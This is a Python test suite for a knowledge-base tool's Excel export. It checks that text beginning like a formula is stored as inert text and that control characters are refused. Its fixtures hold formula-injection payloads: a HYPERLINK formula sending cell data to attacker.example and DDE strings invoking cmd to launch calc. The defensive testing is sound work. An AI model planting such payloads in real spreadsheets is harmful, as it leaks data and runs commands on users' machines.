"""`kb export --format xlsx` writes every text as inert text: read back from the workbook's XML,
no cell is a formula, and each shows exactly the record's text; what no cell can carry is
refused at its source (validation) and again by the exporter."""

from __future__ import annotations

import dataclasses
import io
import json
import re
import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.cli import main
from generator.load.text import control_character_in_value
from generator.model import build_dataset
from generator.sheets.columns import export_header
from generator.sheets.export import CellRefused, export_workbook
from tests.conftest import MINIMAL, check, copy_minimal, write
from tests.hostile import CONTROL, FORMULA_PREFIXES, FORMULAS, TERMINAL_ESCAPES, hostile_line, hostile_text

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CASE = "cases/2026/20260412-hx200-pressure-drop.yml"
CASE_ID = "20260412-hx200-pressure-drop"
# A workbook's text reads `_xHHHH_` as the character HHHH, as Excel does.
EXCEL_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def kb(*args: str):
    return CliRunner().invoke(main, [*args, "--today", "2026-11-28"])


def parts(workbook: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def worksheets(workbook: bytes) -> dict[str, ElementTree.Element]:
    return {
        name: ElementTree.fromstring(data)
        for name, data in parts(workbook).items()
        if name.startswith("xl/worksheets/") and name.endswith(".xml")
    }


def shown(cell: ElementTree.Element) -> str:
    """The text Excel shows for an inline-string cell."""
    written = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
    return EXCEL_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), written)


def cells_by_header(sheet: ElementTree.Element) -> dict[str, dict[int, ElementTree.Element]]:
    """header text -> row -> cell, for the sheet's first row as header."""
    rows = {int(row.get("r")): row for row in sheet.iter(f"{MAIN}row")}
    letters = {re.sub(r"\d", "", cell.get("r")): shown(cell) for cell in rows[1]}
    table: dict[str, dict[int, ElementTree.Element]] = {header: {} for header in letters.values()}
    for number, row in rows.items():
        for cell in row:
            table[letters[re.sub(r"\d", "", cell.get("r"))]][number] = cell
    return table


def assert_inert(workbook: bytes) -> None:
    """No formula anywhere; every text cell an inline string (no shared, error or formula-result type)."""
    for name, sheet in worksheets(workbook).items():
        assert sheet.find(f".//{MAIN}f") is None, name
        for cell in sheet.iter(f"{MAIN}c"):
            assert cell.get("t") in (None, "inlineStr", "n", "b"), (name, cell.get("r"), cell.get("t"))


def quote_prefixed(workbook: bytes) -> set[int]:
    """The style numbers marked typed-with-an-apostrophe (kept text when edited)."""
    styles = ElementTree.fromstring(parts(workbook)["xl/styles.xml"])
    formats = styles.find(f"{MAIN}cellXfs")
    return {number for number, xf in enumerate(formats) if xf.get("quotePrefix") == "1"}


HOSTILE_FIELDS = {
    "title": '=HYPERLINK("http://attacker.example/?"&A1,"详情")',
    "customer": "-2+3+cmd|' /C calc'!A1",
    "environment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cause": "+1+1",
    "resolution": "\t=1+1",
    "symptoms": "＝1+1 ＋ － ＠",
}


HOSTILE_CASE = """id: 20260412-hx200-pressure-drop
state: validated
products: [hx-200]
skills: [hydraulics]
authors: [zhang-wei, chen-hao]
validated_by: li-na
solved_on: 2026-04-12
team: east
tags: ["#N/A", "_x0041_"]
"""


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    data_dir = copy_minimal(tmp_path / "data")
    fields = "".join(f"{name}: {json.dumps(value, ensure_ascii=False)}\n" for name, value in HOSTILE_FIELDS.items())
    write(data_dir, CASE, HOSTILE_CASE + fields)
    taxonomy = (data_dir / "taxonomy.yml").read_text(encoding="utf-8")
    write(data_dir, "taxonomy.yml", taxonomy.replace("name: 华东服务站", 'name: "=1+1 华东服务站"'))
    mentoring = (data_dir / "mentoring/zhang-wei-chen-hao-2026.yml").read_text(encoding="utf-8")
    write(
        data_dir,
        "mentoring/zhang-wei-chen-hao-2026.yml",
        mentoring.replace("note: 复盘数控系统报警处理}", 'note: "=1+1 复盘数控系统报警处理"}'),
    )
    assert [d for d in check(data_dir).report.items if d.is_error] == []
    return data_dir


def test_text_that_starts_like_a_formula_is_written_as_text_showing_exactly_the_record(hostile_data, tmp_path):
    result = kb("export", "--data", str(hostile_data), "--out", str(tmp_path / "r.xlsx"))
    assert result.exit_code == 0, result.output
    workbook = (tmp_path / "r.xlsx").read_bytes()
    assert_inert(workbook)
    cases = cells_by_header(worksheets(workbook)["xl/worksheets/sheet1.xml"])
    row = next(number for number, cell in cases["编号"].items() if shown(cell) == CASE_ID)
    prefixed = quote_prefixed(workbook)
    for name, value in HOSTILE_FIELDS.items():
        header = export_header("case", name, "zh")
        cell = cases[header][row]
        assert cell.get("t") == "inlineStr" and shown(cell) == value, (name, shown(cell))
        assert int(cell.get("s", 0)) in prefixed, name  # editing the cell in Excel keeps it text
    assert shown(cases["标签"][row]) == "#N/A、_x0041_"  # text, not an error cell nor the letter A
    assert shown(cases["班组"][row]) == "=1+1 华东服务站"  # a taxonomy name passes the same rule
    mentoring = worksheets(workbook)["xl/worksheets/sheet4.xml"]
    assert any("=1+1 复盘" in shown(cell) for cell in mentoring.iter(f"{MAIN}c"))  # and the reading sheets


def test_export_then_import_gives_back_records_whose_text_starts_like_a_formula(hostile_data, tmp_path):
    assert kb("export", "--data", str(hostile_data), "--out", str(tmp_path / "r.xlsx")).exit_code == 0
    target = tmp_path / "again"
    shutil.copytree(
        hostile_data, target, ignore=lambda folder, names: {"cases"} if Path(folder) == hostile_data else ()
    )
    result = kb("import", str(tmp_path / "r.xlsx"), "--data", str(target), "--schemas", str(tmp_path / "s"))
    assert result.exit_code == 0, result.output
    assert "KB807" not in result.output
    before = check(hostile_data).context.index("case")[CASE_ID].model
    after = check(target).context.index("case")[CASE_ID].model
    assert after == before
    assert after.title == HOSTILE_FIELDS["title"] and after.customer == HOSTILE_FIELDS["customer"]
    assert after.tags == ["#N/A", "_x0041_"]


def test_a_minus_title_survives_the_round_trip(tmp_path):
    data_dir = copy_minimal(tmp_path / "data")
    case = (data_dir / CASE).read_text(encoding="utf-8")
    write(data_dir, CASE, case.replace("title: 液压站运行半小时后压力掉到 8 MPa", 'title: "-8 MPa 液压站掉压"'))
    assert kb("export", "--data", str(data_dir), "--out", str(tmp_path / "r.xlsx")).exit_code == 0
    shutil.rmtree(data_dir / "cases")
    result = kb("import", str(tmp_path / "r.xlsx"), "--data", str(data_dir), "--schemas", str(tmp_path / "s"))
    assert result.exit_code == 0, result.output
    assert check(data_dir).context.index("case")[CASE_ID].model.title == "-8 MPa 液压站掉压"


@pytest.fixture(scope="module")
def dataset():
    return build_dataset(check(MINIMAL).context)


def with_title(dataset, title: str):
    cases = dict(dataset.cases)
    cases[CASE_ID] = cases[CASE_ID].model_copy(update={"title": title})
    return dataclasses.replace(dataset, cases=cases)


def saved(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("character", ["\x1b", "\x07", "\x00", "\x9b", "\u2028", "\ud800", "\uffff", "\r"])
def test_the_exporter_refuses_what_no_cell_can_carry_naming_the_record_and_field(dataset, character):
    with pytest.raises(CellRefused) as refused:
        export_workbook(with_title(dataset, f"液压站{character}掉压"))
    assert f"case `{CASE_ID}`: `title` holds U+{ord(character):04X}" in str(refused.value)
    assert "which a workbook cannot carry" in str(refused.value)
    assert refused.value.words.render("zh").startswith(f"记录 `{CASE_ID}`（`case`）的 `title` 含有")


def test_a_control_character_in_a_taxonomy_name_is_refused_before_anything_is_exported(tmp_path):
    data_dir = copy_minimal(tmp_path / "data")
    taxonomy = (data_dir / "taxonomy.yml").read_text(encoding="utf-8")
    write(data_dir, "taxonomy.yml", taxonomy.replace("name: 华东服务站", 'name: "华东\\e[31m服务站"'))
    result = kb("export", "--data", str(data_dir), "--out", str(tmp_path / "r.xlsx"))
    assert result.exit_code == 1 and "记录有错误，什么都没有导出" in result.output and "KB" in result.output
    assert "\x1b" not in result.output and not (tmp_path / "r.xlsx").exists()


def test_a_text_too_long_for_a_cell_is_refused_and_a_reading_sheet_shortens_it_whole(dataset):
    with pytest.raises(CellRefused, match="longer than an Excel cell holds"):
        export_workbook(with_title(dataset, "_x0041_" * 5000))  # 35,000 characters once escaped
    mentoring = next(iter(dataset.mentoring.values()))
    long_note = mentoring.model_copy(update={"outcome": "_x0041_" * 5000})
    changed = dataclasses.replace(dataset, mentoring={mentoring.id: long_note})
    sheet = worksheets(saved(export_workbook(changed)))["xl/worksheets/sheet4.xml"]
    texts = ["".join(t.text or "" for t in cell.iter(f"{MAIN}t")) for cell in sheet.iter(f"{MAIN}c")]
    assert max(len(written) for written in texts) <= 32_767


def title_cell(workbook: bytes) -> ElementTree.Element:
    cases = cells_by_header(worksheets(workbook)["xl/worksheets/sheet1.xml"])
    row = next(number for number, cell in cases["编号"].items() if shown(cell) == CASE_ID)
    return cases["标题"][row]


@settings(max_examples=150, deadline=None)
@given(st.one_of(hostile_text(), hostile_line()))
def test_every_hostile_string_is_inert_text_in_the_workbook_or_refused(dataset, title):
    try:
        workbook = saved(export_workbook(with_title(dataset, title)))
    except CellRefused:
        # Refused by the exporter exactly when a record may not hold it: validation refused it first.
        assert control_character_in_value(title) is not None
        return
    assert control_character_in_value(title) is None
    assert_inert(workbook)
    cell = title_cell(workbook)
    assert cell.get("t") == "inlineStr" and shown(cell) == title
    if title.startswith(FORMULA_PREFIXES):
        assert int(cell.get("s", 0)) in quote_prefixed(workbook)


UNCARRIED = CONTROL + TERMINAL_ESCAPES + ("\r", "\x85", "\u2028", "\u2029", "\u202e")


@settings(max_examples=40, deadline=None)
@given(st.tuples(st.sampled_from(FORMULAS + ("", "液压站")), st.sampled_from(UNCARRIED), hostile_text(3)))
def test_what_the_exporter_would_refuse_is_refused_at_its_source(tmp_path_factory, pieces):
    title = "".join(pieces)
    data_dir = copy_minimal(tmp_path_factory.mktemp("source") / "data")
    case = (data_dir / CASE).read_text(encoding="utf-8")
    quoted = json.dumps(title, ensure_ascii=True)  # JSON escapes are YAML double-quoted escapes
    write(data_dir, CASE, case.replace("title: 液压站运行半小时后压力掉到 8 MPa", f"title: {quoted}"))
    errors = [d for d in check(data_dir).report.items if d.is_error]
    assert any(d.file == f"data/{CASE}" for d in errors), title
